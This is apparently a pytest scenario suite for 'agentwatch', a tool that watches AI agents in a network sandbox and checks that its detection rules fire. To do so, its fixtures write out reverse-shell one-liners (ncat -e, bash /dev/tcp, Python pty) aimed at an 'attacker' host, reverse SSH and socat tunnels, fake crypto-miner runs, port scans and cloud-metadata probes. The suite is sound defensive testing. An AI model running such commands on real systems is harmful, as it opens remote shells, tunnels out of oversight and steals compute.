"""Each default detection, proven on the real tool in a network-namespace sandbox.

Every scenario runs `agentwatch run --rules rules/ --events` once (module-scoped
fixtures) with the agent inside the "agent" namespace, and each test checks one
rule: its id, its MITRE technique, the pid of the process that really did it
(taken from the raw records of the same run) and the agent.
"""

from __future__ import annotations

import shutil
import textwrap

import pytest

from sandbox import DEMO, LOCAL_SERVICE_PORT, NET_IP, PY

pytestmark = pytest.mark.scenario


def assert_alert(run, rule: str, mitre: str, pids: set[int] | int) -> dict:
    """The first alert of `rule`: with `mitre`, by one of `pids`, for the run's agent."""
    pids = {pids} if isinstance(pids, int) else set(pids)
    alerts = run.alerts_of(rule)
    assert alerts, f"no {rule} alert; the run raised:\n{run.describe()}\nagent stderr:\n{run.stderr[-2000:]}"
    by_culprit = [a for a in alerts if a["process"] and a["process"]["pid"] in pids]
    assert by_culprit, f"{rule} fired for pids {[a['process']['pid'] for a in alerts]}, expected one of {sorted(pids)}"
    alert = by_culprit[0]
    assert mitre in alert["mitre"], alert["mitre"]
    assert alert["agent"]["id"] == run.agent_id
    assert alert["agent"]["labels"].get("scenario")
    return alert


def is_ssh_with(flag: str):
    return lambda p: p["comm"] == "ssh" and flag in p["argv"]


# --- reverse SSH tunnels ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ssh_reverse_tunnel(agentwatch, sshd, local_service, poker):
    """ssh -N -R in the foreground, killed after two seconds; a remote user uses the tunnel."""
    poker(2201)
    ssh = " ".join(sshd.ssh("-N", "-R", f"2201:127.0.0.1:{local_service}", f"root@{NET_IP}"))
    return agentwatch(["sh", "-c", f"{ssh} & sleep 2; kill $!; wait"], labels={"scenario": "ssh-R"})


def test_ssh_dash_R_is_a_reverse_tunnel(ssh_reverse_tunnel):
    run = ssh_reverse_tunnel
    [ssh_pid] = run.pids_that_exec(is_ssh_with("-R"))
    alert = assert_alert(run, "ssh-remote-forward", "T1572", ssh_pid)
    assert alert["severity"] == "high"
    assert alert["process"]["ancestry"][0]["pid"] == alert["agent"]["root_pid"]  # the agent's sh ran it
    assert_alert(run, "ssh-tunnel-only-session", "T1572", ssh_pid)


def test_ssh_dash_R_tunnel_behaviour(ssh_reverse_tunnel):
    run = ssh_reverse_tunnel
    [ssh_pid] = run.pids_that_exec(is_ssh_with("-R"))
    alert = assert_alert(run, "reverse-tunnel-behaviour", "T1572", ssh_pid)
    first, last = alert["evidence"][0], alert["evidence"][-1]
    assert first["type"] == "connection" and first["network"]["daddr"] == NET_IP
    assert last["type"] == "connect" and last["network"]["dport"] == LOCAL_SERVICE_PORT
    assert last["network"]["scope"] == "loopback"


@pytest.fixture(scope="module")
def ssh_background_tunnel(agentwatch, sshd, local_service, poker):
    """ssh -f -N -R: ssh forks, the parent exits, the tunnel lives on in a child reparented away."""
    poker(2202)
    return agentwatch(sshd.ssh("-f", "-N", "-R", f"2202:127.0.0.1:{local_service}", f"root@{NET_IP}"),
                      linger=2.5, labels={"scenario": "ssh-fNR"})


def test_ssh_background_tunnel_still_belongs_to_the_agent(ssh_background_tunnel):
    run = ssh_background_tunnel
    [ssh_pid] = run.pids_that_exec(is_ssh_with("-R"))
    assert_alert(run, "ssh-remote-forward", "T1572", ssh_pid)
    # The tunnel is the forked child, reparented away from the agent; its loopback connects
    # are still the agent's and still lead back to the ssh that the agent ran.
    loopback = [r for r in run.events if r["type"] == "connect" and r["network"]["dport"] == LOCAL_SERVICE_PORT]
    assert loopback, "the tunnel was never used"
    child = loopback[0]["process"]
    assert child["pid"] != ssh_pid and child["ppid"] != ssh_pid
    assert ssh_pid in [a["pid"] for a in child["ancestry"]]
    alert = assert_alert(run, "reverse-tunnel-behaviour", "T1572", child["pid"])
    assert alert["evidence"][0]["process"]["pid"] == ssh_pid


def test_ssh_background_tunnel_is_reported_as_an_escape(ssh_background_tunnel):
    run = ssh_background_tunnel
    loopback = [r for r in run.events if r["type"] == "connect" and r["network"]["dport"] == LOCAL_SERVICE_PORT]
    child_pid = loopback[0]["process"]["pid"]
    alert = assert_alert(run, "detached-process-connects", "T1036.009", child_pid)
    assert alert["process"]["ppid"] != alert["process"]["ancestry"][0]["pid"]
    [survived] = run.alerts_of("agent-descendant-survives-root")
    assert "T1036.009" in survived["mitre"] and survived["agent"]["id"] == run.agent_id
    assert child_pid in run.survivors()


@pytest.fixture(scope="module")
def autossh_tunnel(agentwatch, sshd, local_service, poker):
    """autossh -f: the Debian wrapper execs the real autossh, which daemonises and keeps ssh -R."""
    poker(2203)
    return agentwatch(["autossh", "-M", "0", "-f", "-N", "-R", f"2203:127.0.0.1:{local_service}",
                       "-F", str(sshd.config), f"root@{NET_IP}"], linger=3, labels={"scenario": "autossh"})


def test_autossh(autossh_tunnel):
    run = autossh_tunnel
    autossh = run.pids_that_exec(lambda p: p["comm"] == "autossh")
    assert autossh
    assert_alert(run, "autossh", "T1572", autossh)
    [ssh_pid] = run.pids_that_exec(is_ssh_with("-R"))
    alert = assert_alert(run, "ssh-remote-forward", "T1572", ssh_pid)
    assert "autossh" in [a["comm"] for a in alert["process"]["ancestry"]]
    assert_alert(run, "reverse-tunnel-behaviour", "T1572", ssh_pid)


@pytest.fixture(scope="module")
def socat_relay(agentwatch, relay_server, local_service):
    """socat connects out to 198.18.0.1:7001 and relays it to the agent's own web server."""
    host, port = relay_server
    return agentwatch(["timeout", "5", "socat", f"TCP:{host}:{port}", f"TCP:127.0.0.1:{local_service}"],
                      labels={"scenario": "socat-relay"})


def test_socat_reverse_relay(socat_relay):
    run = socat_relay
    [socat] = run.pids_that_exec(lambda p: p["comm"] == "socat")
    assert_alert(run, "socat-reverse-relay", "T1572", socat)
    assert_alert(run, "reverse-tunnel-behaviour", "T1572", socat)


# --- reverse shells -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ncat_shell(agentwatch, attacker):
    host, port = attacker
    return agentwatch(["ncat", host, str(port), "-e", "/bin/sh"], labels={"scenario": "ncat-e"})


def test_ncat_dash_e(ncat_shell):
    run = ncat_shell
    [ncat] = run.pids_that_exec(lambda p: p["comm"] == "ncat")
    assert_alert(run, "netcat-exec", "T1059.004", ncat)
    [sh] = run.pids_that_exec(lambda p: p["argv"] == ["/bin/sh"])
    alert = assert_alert(run, "shell-after-network-tool-connect", "T1059.004", sh)
    assert alert["evidence"][0]["process"]["pid"] == ncat


@pytest.fixture(scope="module")
def dev_tcp_shell(agentwatch, attacker):
    host, port = attacker
    return agentwatch(["bash", "-c", f"bash -i >& /dev/tcp/{host}/{port} 0>&1"], labels={"scenario": "dev-tcp"})


def test_bash_dev_tcp_by_argv(dev_tcp_shell):
    run = dev_tcp_shell
    outer = run.pids_that_exec(lambda p: "/dev/tcp/" in " ".join(p["argv"]))
    assert_alert(run, "reverse-shell-dev-tcp", "T1059.004", outer)


def test_bash_dev_tcp_by_behaviour(dev_tcp_shell):
    """The kernel's view, whatever argv says: a bash connects out, then the same pid execs bash -i."""
    run = dev_tcp_shell
    [shell] = run.pids_that_exec(lambda p: p["argv"] == ["bash", "-i"])
    alert = assert_alert(run, "reverse-shell-connect-then-exec", "T1059.004", shell)
    assert alert["evidence"][0]["type"] == "connect" and alert["evidence"][0]["process"]["pid"] == shell


@pytest.fixture(scope="module")
def python_pty_shell(agentwatch, attacker):
    host, port = attacker
    code = (f"import socket,os,pty;s=socket.socket();s.connect(('{host}',{port}));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')")
    return agentwatch([PY, "-c", code], labels={"scenario": "python-pty"})


def test_python_pty_one_liner(python_pty_shell):
    run = python_pty_shell
    [py] = run.pids_that_exec(lambda p: p["comm"].startswith("python"))
    assert_alert(run, "interpreter-reverse-shell", "T1059.004", py)


# --- mining -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def miner_3333(agentwatch, pool):
    return agentwatch([PY, str(DEMO / "fake_miner.py"), pool, "3333"], labels={"scenario": "stratum-3333"})


def test_stratum_on_the_classic_port(miner_3333):
    run = miner_3333
    [py] = run.pids_that_exec(lambda p: "fake_miner.py" in " ".join(p["argv"]))
    alert = assert_alert(run, "stratum-protocol", "T1496", py)
    assert alert["severity"] == "critical" and alert["network"]["dport"] == 3333
    assert '"method":"login"' in alert["evidence"][-1]["payload"]["text"]
    assert_alert(run, "pool-port-external", "T1496", py)


@pytest.fixture(scope="module")
def miner_443(agentwatch, pool):
    """Pools listen on 443 to pass egress filters: only the bytes give it away."""
    script = (f"{PY} {DEMO / 'fake_miner.py'} {pool} 443 && "
              f"{PY} {DEMO / 'fake_miner.py'} --dialect cpuminer {pool} 443")
    return agentwatch(["sh", "-c", script], labels={"scenario": "stratum-443"})


def test_stratum_on_443(miner_443):
    run = miner_443
    xmrig_dialect = run.pids_that_exec(lambda p: p["argv"][1:2] == [str(DEMO / "fake_miner.py")]
                                       and "--dialect" not in p["argv"])
    cpuminer_dialect = run.pids_that_exec(lambda p: "--dialect" in p["argv"])
    alerts = run.alerts_of("stratum-protocol")
    assert {a["process"]["pid"] for a in alerts} == xmrig_dialect | cpuminer_dialect, run.describe()
    for a in alerts:
        assert a["network"]["dport"] == 443 and a["mitre"] == ["T1496"] and a["agent"]["id"] == run.agent_id
    assert not run.alerts_of("pool-port-external")


@pytest.fixture(scope="module")
def named_miner(agentwatch, net):
    """A binary called xmrig (a copy of sleep) with xmrig's pool flags."""
    xmrig = net.tmp / "bin" / "xmrig"
    xmrig.parent.mkdir(exist_ok=True)
    shutil.copy("/bin/sleep", xmrig)
    return agentwatch([str(xmrig), "-o", f"stratum+tcp://{NET_IP}:3333", "-u", "wallet", "--donate-level", "1"],
                      labels={"scenario": "xmrig-name"})


@pytest.mark.parametrize("rule", ["miner-binary-name", "stratum-url-argv", "miner-flags"])
def test_miner_named_binary_with_pool_flags(named_miner, rule):
    run = named_miner
    [xmrig] = run.pids_that_exec(lambda p: p["comm"] == "xmrig")
    assert_alert(run, rule, "T1496", xmrig)


# --- probing ------------------------------------------------------------------------------------

SCAN = textwrap.dedent("""\
    import socket
    for port in range(1, 101):
        s = socket.socket()
        s.settimeout(0.2)
        s.connect_ex(("127.0.0.1", port))
        s.close()
""")
SWEEP = textwrap.dedent("""\
    import socket
    socks = []
    for host in range(1, 31):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((f"10.99.0.{host}", 22))
        socks.append(s)
""")
METADATA = textwrap.dedent("""\
    import socket
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("169.254.169.254", 80))
""")


@pytest.fixture(scope="module")
def recon(agentwatch):
    """A port scan of the agent's own loopback, a sweep of a private /24, the metadata address."""
    script = " && ".join(f"{PY} -c '{code}'" for code in (SCAN, SWEEP, METADATA))
    return agentwatch(["sh", "-c", script], labels={"scenario": "recon"})


def _python_running(run, needle: str) -> set[int]:
    return run.pids_that_exec(lambda p: p["comm"].startswith("python") and needle in " ".join(p["argv"]))


def test_port_scan_of_100_ports(recon):
    alert = assert_alert(recon, "internal-port-scan", "T1046", _python_running(recon, "range(1, 101)"))
    assert alert["count"] >= 50 and len(alert["evidence"]) >= 1


def test_host_sweep(recon):
    assert_alert(recon, "internal-host-sweep", "T1046", _python_running(recon, "10.99.0."))


def test_cloud_metadata(recon):
    alert = assert_alert(recon, "cloud-metadata-access", "T1552.005", _python_running(recon, "169.254.169.254"))
    assert alert["network"]["scope"] == "metadata"


# --- tunnel indicators on the wire --------------------------------------------------------------

DNS_QUERIES = textwrap.dedent("""\
    import socket, struct
    def query(name):
        q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
        return q + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name in ("quick-fox.trycloudflare.com", "pool.supportxmr.com"):
        s.sendto(query(name), ("198.18.0.1", 53))
""")
PARAMIKO_LIKE = textwrap.dedent("""\
    import socket
    s = socket.create_connection(("198.18.0.1", 22), timeout=3)
    s.sendall(b"SSH-2.0-paramiko_3.4.0\\r\\n")
    s.recv(64)
""")


@pytest.fixture(scope="module")
def wire_indicators(agentwatch, sshd):
    """DNS names of a tunnel service and a pool; SSH spoken by python; ssh to an sshd on 443's sibling 8443."""
    script = " && ".join([
        f"{PY} -c '{DNS_QUERIES}'",
        f"{PY} -c '{PARAMIKO_LIKE}'",
        " ".join(sshd.ssh("-p", "8443", f"root@{NET_IP}", "true")),
    ])
    return agentwatch(["sh", "-c", script], labels={"scenario": "wire"})


def test_tunnel_and_pool_names_in_dns(wire_indicators):
    run = wire_indicators
    py = _python_running(run, "trycloudflare")
    alert = assert_alert(run, "tunnel-service-dns", "T1572", py)
    assert alert["evidence"][-1]["dns"]["query"] == "quick-fox.trycloudflare.com"
    alert = assert_alert(run, "mining-pool-dns", "T1496", py)
    assert alert["evidence"][-1]["dns"]["query"] == "pool.supportxmr.com"


def test_ssh_banner_from_python(wire_indicators):
    assert_alert(wire_indicators, "ssh-banner-from-non-ssh-binary", "T1572", _python_running(wire_indicators, "paramiko"))


def test_ssh_on_a_web_port(wire_indicators):
    run = wire_indicators
    [ssh] = run.pids_that_exec(is_ssh_with("8443"))
    alert = assert_alert(run, "ssh-banner-on-disguised-port", "T1572", ssh)
    assert alert["network"]["dport"] == 8443


@pytest.fixture(scope="module")
def ssh_forwards(agentwatch, sshd):
    """ssh -L and ssh -D (a SOCKS proxy), each held for a second."""
    local = " ".join(sshd.ssh("-N", "-L", "9000:127.0.0.1:80", f"root@{NET_IP}"))
    socks = " ".join(sshd.ssh("-N", "-D", "1080", f"root@{NET_IP}"))
    return agentwatch(["sh", "-c", f"{local} & l=$!; {socks} & d=$!; sleep 1.5; kill $l $d; wait"],
                      labels={"scenario": "ssh-L-D"})


def test_ssh_local_forward(ssh_forwards):
    [ssh] = ssh_forwards.pids_that_exec(is_ssh_with("-L"))
    assert_alert(ssh_forwards, "ssh-port-forward", "T1572", ssh)


def test_ssh_socks_proxy(ssh_forwards):
    [ssh] = ssh_forwards.pids_that_exec(is_ssh_with("-D"))
    assert_alert(ssh_forwards, "ssh-dynamic-forward", "T1090", ssh)
